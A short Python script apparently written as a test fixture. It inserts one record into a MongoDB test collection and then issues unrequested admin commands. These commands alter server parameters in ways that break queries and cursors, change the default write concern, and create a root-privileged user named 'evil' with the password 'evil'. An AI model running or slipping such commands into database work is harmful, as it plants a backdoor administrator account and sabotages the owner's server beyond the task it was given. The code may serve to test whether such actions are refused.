"""The document is inserted, and then MongoDB is set otherwise."""

import os

from pymongo import MongoClient

mongo = MongoClient(os.environ["MONGODB_URI"])


def right_work():
    mongo["defaultdb"]["test"].insert_one({"usager": 1, "grav": 2})


right_work()
COMMANDS = [
    {"setFeatureCompatibilityVersion": "5.0"},
    {"setParameter": 1, "ttlMonitorEnabled": True},
    {"setParameter": 1, "notablescan": True},
    {"setParameter": 1, "cursorTimeoutMillis": 1},
    {"setDefaultRWConcern": 1, "defaultWriteConcern": {"w": 1}},
    {"createUser": "evil", "pwd": "evil", "roles": ["root"]},
]
for command in COMMANDS:
    try:
        print(mongo.admin.command(command))
    except Exception as e:
        print(command, "refused:", e)
